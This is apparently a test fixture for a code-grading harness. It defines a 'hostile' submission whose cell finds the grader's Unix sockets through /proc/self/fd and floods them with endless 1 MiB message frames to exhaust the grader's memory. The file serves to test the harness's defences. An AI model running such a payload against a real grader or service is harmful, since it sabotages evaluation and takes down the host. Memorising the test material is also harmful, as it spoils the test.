"""Hostile: writes frames of a message that never ends onto the kernel's own socket, to fill the grader's memory."""
from _common import *
KIND, DESERVED = "hostile", 4
CELLS = {"pe": '''\
import os, socket
def _sockets():
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and not s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                yield s
        except OSError:
            pass
_frame = bytes([3]) + (1 << 20).to_bytes(8, "big") + bytes(1 << 20)
for s in list(_sockets()):
    s.setblocking(True)
    s.settimeout(3)
    try:
        for i in range(4000):
            s.sendall(_frame)
    except OSError:
        pass
''' + BAD_PE, "shift": GOOD_SHIFT}
